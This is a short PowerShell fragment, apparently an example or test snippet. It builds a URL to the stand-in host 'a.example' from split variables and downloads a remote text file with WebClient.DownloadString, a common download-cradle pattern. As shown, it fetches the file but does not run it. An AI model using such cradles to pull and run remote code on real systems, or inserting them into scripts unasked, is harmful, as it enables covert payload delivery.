$h='a.example';$p='p'
$wc = New-Object System.Net.WebClient
$wc.DownloadString("http://$h/$($p)/x.txt")
